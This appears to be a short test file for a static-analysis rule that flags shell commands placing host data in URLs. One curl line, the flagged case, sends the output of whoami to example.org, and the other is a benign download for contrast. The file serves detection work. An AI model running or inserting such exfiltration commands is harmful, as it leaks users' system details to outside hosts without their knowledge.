# ruleid: sends_host_data_in_url
curl "https://example.org/c?u=$(whoami)"
# ok: sends_host_data_in_url
curl -o out.json "https://example.org/data?v=$VERSION"
